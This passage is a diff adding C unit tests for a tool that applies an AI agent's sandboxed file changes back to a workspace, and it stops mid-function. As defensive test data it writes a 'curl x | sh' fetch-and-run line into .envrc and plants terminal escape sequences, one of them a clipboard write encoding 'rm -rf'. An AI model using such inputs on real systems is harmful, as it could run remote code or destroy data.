@@ -1,0 +1,970 @@
+/*
+ * cow_diff and cow_apply (workspace/cow.h) on trees laid out here: a
+ * workspace W, and the view V an agent left (the cow directory's upper/,
+ * a whole tree here, so every change's src is in the cow directory). The
+ * changes are what cow_changes would list: found by comparing W and V
+ * (t_changes), with W's lstat() as the base.
+ *
+ * Round trip of every kind of change through diff (git apply and patch
+ * take it) and apply (W equals V after); conflicts refuse the whole apply;
+ * a link planted on a changed path is not followed; setuid is stripped;
+ * kill -9 in the middle of an apply leaves each file old or new and the
+ * next apply finishes; paths that run code on the host are left out;
+ * colour output holds no control byte of the agent's.
+ */
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <ftw.h>
+#include <limits.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#include "workspace/cow.h"
+#include "workspace/hostexec.h"
+
+struct t {
+	char		 root[64];
+	char		 ws[80];		/* W */
+	char		 view[PATH_MAX + 16];	/* V: cow dir's upper/ */
+	struct cow	 c;
+	struct cow_changes ch;
+};
+
+static void
+sh(const char *fmt, ...)
+{
+	char	cmd[8192];
+	va_list	ap;
+	int	rc;
+
+	va_start(ap, fmt);
+	vsnprintf(cmd, sizeof(cmd), fmt, ap);
+	va_end(ap);
+	rc = system(cmd);
+	if (rc != 0)
+		fail_msg("command failed (%d): %s", rc, cmd);
+}
+
+/* Everything of a tree as text: type, mode, name, link target, and each
+ * file's hash. */
+static char *
+tree(const char *dir)
+{
+	char	 cmd[PATH_MAX + 512], *buf;
+	size_t	 n = 0, cap = 1 << 20;
+	FILE	*p;
+
+	snprintf(cmd, sizeof(cmd), "cd '%s' && find . -mindepth 1 -printf "
+	    "'%%y %%#m %%p -> %%l\\n' | LC_ALL=C sort && find . -type f "
+	    "-exec sha256sum {} + | LC_ALL=C sort", dir);
+	assert_non_null(p = popen(cmd, "r"));
+	assert_non_null(buf = malloc(cap));
+	n = fread(buf, 1, cap - 1, p);
+	buf[n] = '\0';
+	assert_int_equal(pclose(p), 0);
+	return buf;
+}
+
+static void
+t_open(struct t *t)
+{
+	char	tmpl[] = "/tmp/test_cow_apply.XXXXXX";
+
+	memset(t, 0, sizeof(*t));
+	assert_non_null(mkdtemp(tmpl));
+	snprintf(t->root, sizeof(t->root), "%s", tmpl);
+	snprintf(t->ws, sizeof(t->ws), "%s/ws", t->root);
+	snprintf(t->c.dir, sizeof(t->c.dir), "%.60s/cow", t->root);
+	snprintf(t->view, sizeof(t->view), "%s/upper", t->c.dir);
+	assert_int_equal(mkdir(t->ws, 0755), 0);
+	assert_int_equal(mkdir(t->c.dir, 0700), 0);
+	snprintf(t->c.workspace, sizeof(t->c.workspace), "%s", t->ws);
+	t->c.mode = COW_COPY;
+}
+
+/* V starts as a copy of W. */
+static void
+t_fork(struct t *t)
+{
+	sh("cp -a '%s' '%s'", t->ws, t->view);
+}
+
+static void
+t_close(struct t *t)
+{
+	size_t	i;
+
+	for (i = 0; i < t->ch.n; i++) {
+		free(t->ch.v[i].path);
+		free(t->ch.v[i].src);
+	}
+	free(t->ch.v);
+	sh("chmod -R u+rwX '%s' 2>/dev/null; rm -rf '%s'", t->root, t->root);
+}
+
+static char	**g_paths;
+static size_t	  g_npaths;
+static size_t	  g_prefix;
+
+static int
+t_collect(const char *fpath, const struct stat *sb, int flag, struct FTW *ftw)
+{
+	(void)sb;
+	(void)flag;
+	if (ftw->level == 0)
+		return 0;
+	assert_non_null(g_paths = realloc(g_paths, (g_npaths + 1) *
+	    sizeof(*g_paths)));
+	assert_non_null(g_paths[g_npaths++] = strdup(fpath + g_prefix + 1));
+	return 0;
+}
+
+static int
+t_pathcmp(const void *a, const void *b)
+{
+	return hostexec_pathcmp(*(char *const *)a, *(char *const *)b);
+}
+
+static int
+t_same_file(const char *a, const char *b)
+{
+	char	cmd[5 * PATH_MAX];
+
+	snprintf(cmd, sizeof(cmd), "cmp -s '%s' '%s'", a, b);
+	return system(cmd) == 0;
+}
+
+static void
+t_stat(struct cow_stat *cs, const struct stat *sb)
+{
+	cs->mode = sb->st_mode;
+	cs->ino = sb->st_ino;
+	cs->size = sb->st_size;
+	cs->mtime_ns = (int64_t)sb->st_mtim.tv_sec * 1000000000 +
+	    sb->st_mtim.tv_nsec;
+	cs->ctime_ns = (int64_t)sb->st_ctim.tv_sec * 1000000000 +
+	    sb->st_ctim.tv_nsec;
+}
+
+/* Did path change between W (sw) and V (sv)? */
+static int
+t_differs(const struct t *t, const char *path, const struct stat *sw,
+    const struct stat *sv)
+{
+	char	 pw[2 * PATH_MAX], pv[2 * PATH_MAX], lw[PATH_MAX], lv[PATH_MAX];
+	ssize_t	 nw, nv;
+
+	if (sw->st_mode != sv->st_mode)
+		return 1;
+	snprintf(pw, sizeof(pw), "%s/%s", t->ws, path);
+	snprintf(pv, sizeof(pv), "%s/%s", t->view, path);
+	if (S_ISREG(sw->st_mode))
+		return !t_same_file(pw, pv);
+	if (S_ISLNK(sw->st_mode)) {
+		nw = readlink(pw, lw, sizeof(lw));
+		nv = readlink(pv, lv, sizeof(lv));
+		return nw != nv || memcmp(lw, lv, (size_t)nw) != 0;
+	}
+	return 0;
+}
+
+static void
+t_add(struct t *t, const char *path, enum cow_kind kind,
+    const struct stat *sw, const struct stat *sv)
+{
+	struct cow_change	*c;
+
+	assert_non_null(t->ch.v = realloc(t->ch.v, (t->ch.n + 1) *
+	    sizeof(*t->ch.v)));
+	c = &t->ch.v[t->ch.n++];
+	memset(c, 0, sizeof(*c));
+	assert_non_null(c->path = strdup(path));
+	c->kind = kind;
+	if (kind != COW_ADDED)
+		t_stat(&c->base, sw);
+	if (kind != COW_DELETED) {
+		c->new_mode = sv->st_mode;
+		assert_true(asprintf(&c->src, "%s/%s", t->view, path) > 0);
+	}
+	c->sensitive = hostexec_why(path);
+}
+
+/* The changes from W to V, W's entries as the base (what cow_changes
+ * lists from the manifest and the layer). */
+static void
+t_changes(struct t *t)
+{
+	struct stat	 sw, sv;
+	char		 p[2 * PATH_MAX];
+	size_t		 i;
+	int		 inw, inv;
+
+	g_prefix = strlen(t->ws);
+	assert_int_equal(nftw(t->ws, t_collect, 16, FTW_PHYS), 0);
+	g_prefix = strlen(t->view);
+	assert_int_equal(nftw(t->view, t_collect, 16, FTW_PHYS), 0);
+	qsort(g_paths, g_npaths, sizeof(*g_paths), t_pathcmp);
+	for (i = 0; i < g_npaths; i++) {
+		if (i > 0 && strcmp(g_paths[i], g_paths[i - 1]) == 0)
+			continue;
+		snprintf(p, sizeof(p), "%s/%s", t->ws, g_paths[i]);
+		inw = lstat(p, &sw) == 0;
+		snprintf(p, sizeof(p), "%s/%s", t->view, g_paths[i]);
+		inv = lstat(p, &sv) == 0;
+		if (inw && !inv)
+			t_add(t, g_paths[i], COW_DELETED, &sw, NULL);
+		else if (!inw && inv)
+			t_add(t, g_paths[i], COW_ADDED, NULL, &sv);
+		else if (t_differs(t, g_paths[i], &sw, &sv))
+			t_add(t, g_paths[i], COW_MODIFIED, &sw, &sv);
+	}
+	for (i = 0; i < g_npaths; i++)
+		free(g_paths[i]);
+	free(g_paths);
+	g_paths = NULL;
+	g_npaths = 0;
+}
+
+/* cow_diff's output as a string (NUL bytes kept out of the way). */
+static char *
+t_diff(struct t *t, unsigned flags, size_t *lenp)
+{
+	char	*buf = NULL, err[512];
+	size_t	 len = 0;
+	FILE	*f;
+
+	assert_non_null(f = open_memstream(&buf, &len));
+	if (cow_diff(&t->c, &t->ch, f, flags, err, sizeof(err)) != 0)
+		fail_msg("cow_diff: %s", err);
+	assert_int_equal(fclose(f), 0);
+	if (lenp != NULL)
+		*lenp = len;
+	return buf;
+}
+
+/* cow_apply's return, its report in *report. */
+static int
+t_apply(struct t *t, unsigned flags, char **report)
+{
+	char	*buf = NULL, err[512];
+	size_t	 len = 0;
+	FILE	*f;
+	int	 rc;
+
+	assert_non_null(f = open_memstream(&buf, &len));
+	err[0] = '\0';
+	rc = cow_apply(&t->c, &t->ch, flags, f, err, sizeof(err));
+	assert_int_equal(fclose(f), 0);
+	if (rc == -1)
+		print_message("cow_apply: %s\n", err);
+	if (report != NULL)
+		*report = buf;
+	else
+		free(buf);
+	return rc;
+}
+
+static void
+t_no_journal(const struct t *t)
+{
+	char	p[PATH_MAX + 32];
+
+	snprintf(p, sizeof(p), "%s/apply.journal", t->c.dir);
+	assert_int_equal(access(p, F_OK), -1);
+}
+
+/* W with one of each kind of entry; V with one of each kind of change. */
+static void
+t_layout_all(struct t *t)
+{
+	sh("cd '%s' && seq 1 20 | sed 's/^/line /' > mod.txt && echo bye > "
+	    "gone.txt && echo moving > old-name.txt && ln -s mod.txt link && "
+	    "echo 'echo hi' > script.sh && chmod 644 script.sh && "
+	    "printf 'bin\\000ary\\001' > bin.dat && mkdir emptydir-gone d "
+	    "keepdir && echo in-d > d/a.txt && echo was-a-file > tc && "
+	    "printf 'no newline' > noeol && chmod 755 keepdir", t->ws);
+	t_fork(t);
+	sh("cd '%s' && sed -i -e 's/^line 3$/line three/' -e '/^line 15$/d' "
+	    "mod.txt && echo 'line 21' >> mod.txt && rm gone.txt && "
+	    "mv old-name.txt new-name.txt && ln -sfn new-target link && "
+	    "chmod 755 script.sh && printf 'bin\\000ary\\002' > bin.dat && "
+	    "mkdir new-empty && mkdir -p new-dir/sub && echo hello > "
+	    "new-dir/sub/file.txt && rmdir emptydir-gone && rm -r d && "
+	    "rm tc && ln -s mod.txt tc && printf 'no newline, changed' > "
+	    "noeol && chmod 700 keepdir && ln -s ../elsewhere newlink",
+	    t->view);
+	t_changes(t);
+}
+
+static void
+test_roundtrip(void **state)
+{
+	struct t	 t;
+	char		*d, *rep, *want, *got;
+
+	(void)state;
+	t_open(&t);
+	t_layout_all(&t);
+	d = t_diff(&t, 0, NULL);
+	if (getenv("T_SHOW") != NULL)
+		fputs(d, stderr);
+	assert_non_null(strstr(d, "diff --git a/mod.txt b/mod.txt\n--- "
+	    "a/mod.txt\n+++ b/mod.txt\n@@ -1,6 +1,6 @@\n line 1\n line 2\n"
+	    "-line 3\n+line three\n"));
+	assert_non_null(strstr(d, "@@ -12,9 +12,9 @@\n"));
+	assert_non_null(strstr(d, "diff --git a/gone.txt b/gone.txt\n"
+	    "deleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n"
+	    "@@ -1 +0,0 @@\n-bye\n"));
+	assert_non_null(strstr(d, "new file mode 100644\n--- /dev/null\n"
+	    "+++ b/new-name.txt\n@@ -0,0 +1 @@\n+moving\n"));
+	assert_non_null(strstr(d, "diff --git a/script.sh b/script.sh\n"
+	    "old mode 100644\nnew mode 100755\n"));
+	assert_non_null(strstr(d, "Binary files a/bin.dat and b/bin.dat "
+	    "differ\n"));
+	assert_non_null(strstr(d, "-mod.txt\n\\ No newline at end of file\n"
+	    "+new-target\n\\ No newline at end of file\n"));
+	assert_non_null(strstr(d, "# new-empty: directory created\n"));
+	assert_non_null(strstr(d, "# emptydir-gone: directory removed\n"));
+	assert_non_null(strstr(d, "# keepdir: directory, mode 0755 -> 0700\n"));
+	assert_non_null(strstr(d, "deleted file mode 100644\n--- a/tc\n"));
+	assert_non_null(strstr(d, "new file mode 120000\n--- /dev/null\n"
+	    "+++ b/tc\n"));
+	free(d);
+	want = tree(t.view);
+	assert_int_equal(t_apply(&t, 0, &rep), 0);
+	assert_non_null(strstr(rep, "changed mod.txt\n"));
+	assert_non_null(strstr(rep, "deleted d\n"));
+	assert_non_null(strstr(rep, "created new-empty\n"));
+	got = tree(t.ws);
+	assert_string_equal(got, want);
+	t_no_journal(&t);
+	free(got);
+	free(rep);
+	/* Applied again: every change is there already. */
+	assert_int_equal(t_apply(&t, 0, &rep), 0);
+	assert_non_null(strstr(rep, "already applied: mod.txt\n"));
+	got = tree(t.ws);
+	assert_string_equal(got, want);
+	free(got);
+	free(rep);
+	free(want);
+	t_close(&t);
+}
+
+/* Random lines from a small alphabet, so that many lines match. */
+static void
+t_random_text(FILE *f, unsigned n, int eol)
+{
+	unsigned	i;
+
+	for (i = 0; i < n; i++)
+		fprintf(f, "%c%s", 'a' + rand() % 5, i + 1 < n || eol ? "\n" :
+		    "");
+}
+
+/* The same text with lines changed, dropped and added at random. */
+static void
+t_mutate(const char *from, const char *to)
+{
+	char	 line[64];
+	FILE	*in, *out;
+
+	assert_non_null(in = fopen(from, "r"));
+	assert_non_null(out = fopen(to, "w"));
+	while (fgets(line, sizeof(line), in) != NULL) {
+		switch (rand() % 8) {
+		case 0:
+			break;
+		case 1:
+			t_random_text(out, 1 + rand() % 3, 1);
+			/* FALLTHROUGH */
+		default:
+			fputs(line, out);
+		}
+		if (rand() % 10 == 0)
+			fprintf(out, "%c\n", 'a' + rand() % 5);
+	}
+	if (rand() % 3 == 0)
+		t_random_text(out, 1 + rand() % 3, rand() % 2);
+	fclose(in);
+	fclose(out);
+}
+
+/* Text-only changes (and random files of near-alike lines): the diff
+ * goes through `git apply` (or `patch -p1`, which does not change a
+ * link: link 0) on a copy of W to V. */
+static void
+t_patch(int git)
+{
+	struct t	 t;
+	char		 p[2 * PATH_MAX], q[2 * PATH_MAX], *d, *want, *got;
+	FILE		*f;
+	int		 i;
+
+	srand(20);
+	t_open(&t);
+	for (i = 0; i < 40; i++) {
+		snprintf(p, sizeof(p), "%s/r%02d.txt", t.ws, i);
+		assert_non_null(f = fopen(p, "w"));
+		t_random_text(f, (unsigned)(rand() % 60), rand() % 4 != 0);
+		fclose(f);
+	}
+	sh("cd '%s' && seq 1 30 > n.txt && echo x > gone && mkdir sub && "
+	    "echo s > sub/s && ln -s n.txt ln && echo m > mode && "
+	    "echo 'sp' > 'with space' && printf 'q\\n' > 'tab\tname'", t.ws);
+	t_fork(&t);
+	for (i = 0; i < 40; i++) {
+		snprintf(p, sizeof(p), "%s/r%02d.txt", t.ws, i);
+		snprintf(q, sizeof(q), "%s/r%02d.txt", t.view, i);
+		t_mutate(p, q);
+	}
+	sh("cd '%s' && sed -i 's/^15$/fifteen/' n.txt && rm gone && "
+	    "mv sub/s sub/t && chmod 755 mode && echo more >> 'with space' && "
+	    "echo r >> 'tab\tname' && echo new > added && ln -s n.txt newln",
+	    t.view);
+	if (git)
+		sh("ln -sfn other '%s/ln'", t.view);
+	t_changes(&t);
+	d = t_diff(&t, 0, NULL);
+	snprintf(p, sizeof(p), "%s/d.patch", t.root);
+	assert_non_null(f = fopen(p, "w"));
+	fputs(d, f);
+	fclose(f);
+	want = tree(t.view);
+	if (git)
+		sh("cp -a '%s' '%s/pt' && cd '%s/pt' && git apply --check '%s' "
+		    "&& git apply '%s'", t.ws, t.root, t.root, p, p);
+	else
+		sh("cp -a '%s' '%s/pt' && cd '%s/pt' && patch -s -p1 < '%s'",
+		    t.ws, t.root, t.root, p);
+	snprintf(q, sizeof(q), "%s/pt", t.root);
+	got = tree(q);
+	assert_string_equal(got, want);
+	free(got);
+	free(want);
+	free(d);
+	t_close(&t);
+}
+
+static void
+test_git_apply(void **state)
+{
+	(void)state;
+	if (system("git --version >/dev/null 2>&1") != 0)
+		skip();
+	t_patch(1);
+}
+
+static void
+test_patch(void **state)
+{
+	(void)state;
+	if (system("patch --version >/dev/null 2>&1") != 0)
+		skip();
+	t_patch(0);
+}
+
+/* The workspace changed under three paths after the run began: each is
+ * named, and nothing at all is applied. */
+static void
+test_conflict(void **state)
+{
+	struct t	 t;
+	char		*rep, *before, *after;
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo a > a.txt && echo b > b.txt && mkdir dir sub && "
+	    "echo c > dir/c.txt && echo k > kept.txt", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo A > a.txt && echo B > b.txt && echo n > new.txt "
+	    "&& rm -r dir && echo K > kept.txt && echo s > sub/s.txt", t.view);
+	t_changes(&t);
+	sh("cd '%s' && echo user >> a.txt && echo mine > new.txt && "
+	    "echo extra > dir/extra && chmod 600 kept.txt && rmdir sub", t.ws);
+	before = tree(t.ws);
+	assert_int_equal(t_apply(&t, 0, &rep), 1);
+	assert_non_null(strstr(rep, "conflict: a.txt: its content changed\n"));
+	assert_non_null(strstr(rep, "conflict: new.txt: it was created in the "
+	    "workspace since the run started\n"));
+	assert_non_null(strstr(rep, "conflict: dir: the directory holds extra,"
+	    " which the run's base did not have\n"));
+	assert_non_null(strstr(rep, "conflict: kept.txt: its mode changed\n"));
+	assert_non_null(strstr(rep, "conflict: sub/s.txt: its directory is "
+	    "gone from the workspace"));
+	assert_non_null(strstr(rep, "nothing applied (5 conflicts, 0 refused)"));
+	after = tree(t.ws);
+	assert_string_equal(after, before);
+	t_no_journal(&t);
+	free(rep);
+	free(before);
+	free(after);
+	t_close(&t);
+}
+
+/* A link planted in the workspace where the run changed a file below:
+ * the walk does not go through it, the file outside stays as it was. */
+static void
+test_planted_link(void **state)
+{
+	struct t	 t;
+	char		*rep, *before, *after, out[PATH_MAX + 16];
+
+	(void)state;
+	t_open(&t);
+	snprintf(out, sizeof(out), "%s/outside", t.root);
+	sh("mkdir '%s' && echo theirs > '%s/f.txt' && cd '%s' && mkdir d && "
+	    "echo f > d/f.txt && echo top > top.txt", out, out, t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo F > d/f.txt && echo new > d/new.txt && "
+	    "echo TOP > top.txt", t.view);
+	t_changes(&t);
+	sh("cd '%s' && rm -r d && ln -s '%s' d && rm top.txt && "
+	    "ln -s '%s/f.txt' top.txt", t.ws, out, out);
+	before = tree(out);
+	assert_int_equal(t_apply(&t, 0, &rep), 1);
+	assert_non_null(strstr(rep, "conflict: d/f.txt: a directory on its "
+	    "path is now a link or not a directory\n"));
+	assert_non_null(strstr(rep, "conflict: d/new.txt: a directory on its "
+	    "path is now a link"));
+	assert_non_null(strstr(rep, "conflict: top.txt: it is another type"));
+	after = tree(out);
+	assert_string_equal(after, before);
+	free(rep);
+	free(before);
+	free(after);
+	t_close(&t);
+}
+
+static mode_t
+t_mode(const struct t *t, const char *path)
+{
+	struct stat	sb;
+	char		p[2 * PATH_MAX];
+
+	snprintf(p, sizeof(p), "%s/%s", t->ws, path);
+	assert_int_equal(lstat(p, &sb), 0);
+	return sb.st_mode & 07777;
+}
+
+static void
+test_setuid_stripped(void **state)
+{
+	struct t	 t;
+	char		*rep;
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo tool > tool && chmod 755 tool", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && chmod 4755 tool && echo t2 > tool2 && chmod 2750 tool2 "
+	    "&& mkdir sg && chmod 2775 sg", t.view);
+	t_changes(&t);
+	assert_int_equal(t_apply(&t, 0, &rep), 0);
+	assert_int_equal(t_mode(&t, "tool"), 0755);
+	assert_int_equal(t_mode(&t, "tool2"), 0750);
+	assert_int_equal(t_mode(&t, "sg"), 0775);
+	assert_non_null(strstr(rep, "not applied: the setuid or setgid bit of "
+	    "tool\n"));
+	assert_non_null(strstr(rep, "of tool2\n"));
+	assert_non_null(strstr(rep, "of sg\n"));
+	free(rep);
+	t_close(&t);
+}
+
+#define T_KILL_FILES	900
+
+/* Every file of the kill test is its old content, its new content, or
+ * (deleted, or not yet added) absent: never a part. Returns how many are
+ * new, and counts the temporaries left. */
+static size_t
+t_kill_check(const struct t *t, size_t *ntmp)
+{
+	char		 p[PATH_MAX + 64], buf[128], old[64], new[64];
+	struct dirent	*de;
+	DIR		*d;
+	size_t		 i, nnew = 0;
+	ssize_t		 n;
+	int		 fd;
+
+	for (i = 0; i < T_KILL_FILES; i++) {
+		snprintf(p, sizeof(p), "%s/%s%03zu", t->ws, i % 3 == 2 ?
+		    "nd/f" : "f", i);
+		snprintf(old, sizeof(old), "old %zu\n", i);
+		snprintf(new, sizeof(new), "new content of %zu\n", i);
+		if ((fd = open(p, O_RDONLY)) == -1) {
+			assert_int_equal(errno, ENOENT);
+			assert_true(i % 3 != 0);	/* kept or changed */
+			nnew += i % 3 == 1;
+			continue;
+		}
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		assert_true(n >= 0);
+		buf[n] = '\0';
+		if (strcmp(buf, new) == 0)
+			nnew++;
+		else
+			assert_string_equal(buf, old);
+	}
+	*ntmp = 0;
+	assert_non_null(d = opendir(t->ws));
+	while ((de = readdir(d)) != NULL)
+		*ntmp += strncmp(de->d_name, ".warren-apply.", 14) == 0;
+	closedir(d);
+	return nnew;
+}
+
+/* Files f000... (i % 3 == 0 changed, 1 deleted) and nd/f002... (2 added
+ * in a new directory): kill -9 an apply at growing random delays until
+ * one finishes; after each kill every file is old or new; the last apply
+ * leaves V and no temporary behind. */
+static void
+test_kill(void **state)
+{
+	struct t	 t;
+	struct timespec	 ts;
+	char		 p[PATH_MAX + 64], *want, *got;
+	size_t		 i, ntmp, nnew, mid = 0, rounds = 0;
+	long		 delay_us = 200, us;
+	pid_t		 pid;
+	FILE		*f;
+	int		 st;
+
+	(void)state;
+	srand((unsigned)time(NULL));
+	t_open(&t);
+	for (i = 0; i < T_KILL_FILES; i++) {
+		if (i % 3 == 2)
+			continue;
+		snprintf(p, sizeof(p), "%s/f%03zu", t.ws, i);
+		assert_non_null(f = fopen(p, "w"));
+		fprintf(f, "old %zu\n", i);
+		fclose(f);
+	}
+	t_fork(&t);
+	sh("mkdir '%s/nd'", t.view);
+	for (i = 0; i < T_KILL_FILES; i++) {
+		snprintf(p, sizeof(p), "%s/%s%03zu", t.view, i % 3 == 2 ?
+		    "nd/f" : "f", i);
+		if (i % 3 == 1) {
+			assert_int_equal(unlink(p), 0);
+			continue;
+		}
+		assert_non_null(f = fopen(p, "w"));
+		fprintf(f, "new content of %zu\n", i);
+		fclose(f);
+	}
+	t_changes(&t);
+	want = tree(t.view);
+	for (;; rounds++) {
+		assert_true(rounds < 60);
+		if ((pid = fork()) == 0) {
+			if (freopen("/dev/null", "w", stdout) == NULL)
+				_exit(3);
+			_exit(t_apply(&t, 0, NULL) == 0 ? 0 : 2);
+		}
+		assert_true(pid > 0);
+		us = delay_us + rand() % (delay_us + 1);
+		ts.tv_sec = us / 1000000;
+		ts.tv_nsec = us % 1000000 * 1000;
+		nanosleep(&ts, NULL);
+		kill(pid, SIGKILL);
+		assert_int_equal(waitpid(pid, &st, 0), pid);
+		if (WIFEXITED(st)) {
+			assert_int_equal(WEXITSTATUS(st), 0);
+			break;
+		}
+		nnew = t_kill_check(&t, &ntmp);
+		if ((nnew > 0 && nnew < T_KILL_FILES / 3 * 2) || ntmp > 0)
+			mid++;
+		delay_us = delay_us * 3 / 2;
+	}
+	print_message("kill -9: %zu rounds, %zu killed mid-way\n", rounds, mid);
+	assert_true(mid >= 1);
+	/* A last apply in this process, whatever the kills left. */
+	assert_int_equal(t_apply(&t, 0, NULL), 0);
+	got = tree(t.ws);
+	assert_string_equal(got, want);
+	t_no_journal(&t);
+	free(got);
+	free(want);
+	t_close(&t);
+}
+
+/* .envrc runs on the host (direnv): flagged in the diff, left out of an
+ * apply without COW_APPLY_SENSITIVE, applied with it. */
+static void
+test_sensitive(void **state)
+{
+	struct t	 t;
+	char		*d, *rep, p[PATH_MAX + 16];
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo plain > plain.txt", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo changed > plain.txt && echo 'curl x | sh' > "
+	    ".envrc", t.view);
+	t_changes(&t);
+	d = t_diff(&t, 0, NULL);
+	assert_non_null(strstr(d, "# runs on the host: "));
+	assert_non_null(strstr(strstr(d, "# runs on the host: "),
+	    "\ndiff --git a/.envrc b/.envrc\n"));
+	free(d);
+	d = t_diff(&t, COW_DIFF_STAT, NULL);
+	assert_non_null(strstr(d, " .envrc    | 1 +  # runs on the host: "));
+	free(d);
+	assert_int_equal(t_apply(&t, 0, &rep), 0);
+	assert_non_null(strstr(rep, "left out: .envrc: runs on the host: "));
+	assert_non_null(strstr(rep, "changed plain.txt\n"));
+	snprintf(p, sizeof(p), "%s/.envrc", t.ws);
+	assert_int_equal(access(p, F_OK), -1);
+	free(rep);
+	assert_int_equal(t_apply(&t, COW_APPLY_SENSITIVE, &rep), 0);
+	assert_non_null(strstr(rep, "created .envrc\n"));
+	assert_non_null(strstr(rep, "already applied: plain.txt\n"));
+	assert_int_equal(access(p, F_OK), 0);
+	free(rep);
+	t_close(&t);
+}
+
+/* Remove our own colour codes: what is left must hold no ESC and no
+ * control byte but newline and tab. */
+static void
+t_no_controls(char *s, size_t len)
+{
+	static const char	*codes[] = { "\033[1m", "\033[31m", "\033[32m",
+	    "\033[36m", "\033[m" };
+	size_t			 i, k, cl;
+
+	for (i = 0; i < len; i++) {
+		for (k = 0; k < sizeof(codes) / sizeof(codes[0]); k++) {
+			cl = strlen(codes[k]);
+			if (len - i >= cl && memcmp(s + i, codes[k], cl) == 0) {
+				memset(s + i, ' ', cl);
+				break;
+			}
+		}
+		if (s[i] != '\n' && s[i] != '\t' &&
+		    ((unsigned char)s[i] < 0x20 || (unsigned char)s[i] == 0x7f))
+			fail_msg("control byte 0x%02x at %zu: %.40s",
+			    (unsigned char)s[i], i, s + (i > 20 ? i - 20 : 0));
+	}
+}
+
+static void
+test_color_escaped(void **state)
+{
+	struct t	 t;
+	char		*d, p[2 * PATH_MAX];
+	size_t		 len;
+	FILE		*f;
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo ok > ok.txt && ln -s ok.txt l", t.ws);
+	t_fork(&t);
+	snprintf(p, sizeof(p), "%s/evil\033]0;title\007name", t.view);
+	assert_non_null(f = fopen(p, "w"));
+	fputs("line\033[2J\033]52;c;cm0gLXJm\007\r\n\x9b" "31m\xc2\x9b" "0m\n",
+	    f);
+	fclose(f);
+	snprintf(p, sizeof(p), "%s/ok.txt", t.view);
+	assert_non_null(f = fopen(p, "w"));
+	fputs("ok\033[8m hidden\n", f);
+	fclose(f);
+	sh("cd '%s' && ln -sfn \"$(printf 'x\\033[2Jy')\" l", t.view);
+	t_changes(&t);
+	d = t_diff(&t, COW_DIFF_COLOR, &len);
+	assert_non_null(strstr(d, "\033[32m+line\\x1b[2J"));
+	t_no_controls(d, len);
+	free(d);
+	d = t_diff(&t, COW_DIFF_COLOR | COW_DIFF_STAT, &len);
+	t_no_controls(d, len);
+	free(d);
+	/* Without colour: names quoted as git does, content raw for patch. */
+	d = t_diff(&t, 0, &len);
+	assert_non_null(strstr(d, "diff --git \"a/evil\\033]0;title\\007name\""
+	    " \"b/evil\\033]0;title\\007name\"\n"));
+	assert_non_null(strstr(d, "+line\033[2J"));
+	free(d);
+	t_close(&t);
+}
+
+static void
+test_stat(void **state)
+{
+	struct t	 t;
+	char		*d;
+
+	(void)state;
+	t_open(&t);
+	t_layout_all(&t);
+	d = t_diff(&t, COW_DIFF_STAT, NULL);
+	if (getenv("T_SHOW") != NULL)
+		fputs(d, stderr);
+	assert_non_null(strstr(d, " mod.txt              | 4 ++--\n"));
+	assert_non_null(strstr(d, " bin.dat              | binary\n"));
+	assert_non_null(strstr(d, " new-empty            | directory created"
+	    "\n"));
+	assert_non_null(strstr(d, " gone.txt             | 1 -\n"));
+	assert_non_null(strstr(d, " script.sh            | 0\n"));
+	assert_non_null(strstr(d, " 19 files changed, 8 insertions(+), 8 "
+	    "deletions(-)\n"));
+	free(d);
+	t_close(&t);
+}
+
+/* Over 8 MB: named, not diffed; apply still carries it whole. */
+static void
+test_big(void **state)
+{
+	struct t	 t;
+	char		*d, *want, *got;
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && head -c 9000000 /dev/zero | tr '\\0' 'a' > big", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo tail >> big", t.view);
+	t_changes(&t);
+	d = t_diff(&t, 0, NULL);
+	assert_string_equal(d, "# big: too large to show (over 8 MB)\n");
+	free(d);
+	want = tree(t.view);
+	assert_int_equal(t_apply(&t, 0, NULL), 0);
+	got = tree(t.ws);
+	assert_string_equal(got, want);
+	free(got);
+	free(want);
+	t_close(&t);
+}
+
+/* A changed file keeps its owner and group when root applies; a new one
+ * is the applier's. */
+static void
+test_owner(void **state)
+{
+	struct t	 t;
+	struct stat	 sb;
+	char		 p[PATH_MAX + 16];
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo o > own.txt", t.ws);
+	if (geteuid() == 0)
+		sh("chown 4242:4343 '%s/own.txt'", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo O > own.txt && echo n > new.txt", t.view);
+	if (geteuid() == 0)
+		sh("chown 0:0 '%s/own.txt'", t.view);
+	t_changes(&t);
+	assert_int_equal(t_apply(&t, 0, NULL), 0);
+	snprintf(p, sizeof(p), "%s/own.txt", t.ws);
+	assert_int_equal(stat(p, &sb), 0);
+	assert_int_equal(sb.st_uid, geteuid() == 0 ? 4242 : getuid());
+	assert_int_equal(sb.st_gid, geteuid() == 0 ? 4343 : getgid());
+	snprintf(p, sizeof(p), "%s/new.txt", t.ws);
+	assert_int_equal(stat(p, &sb), 0);
+	assert_int_equal(sb.st_uid, geteuid());
+	t_close(&t);
+}
+
+/* A FIFO in the layer: named by diff, and apply refuses the run. */
+static void
+test_fifo_refused(void **state)
+{
+	struct t	 t;
+	char		*d, *rep, *before, *after;
+
+	(void)state;
+	t_open(&t);
+	sh("cd '%s' && echo a > a", t.ws);
+	t_fork(&t);
+	sh("cd '%s' && echo A > a && mkfifo pipe", t.view);
+	t_changes(&t);
+	d = t_diff(&t, 0, NULL);
+	assert_non_null(strstr(d, "# pipe: a fifo, device or socket: apply "
+	    "refuses it\n"));
+	free(d);
+	before = tree(t.ws);
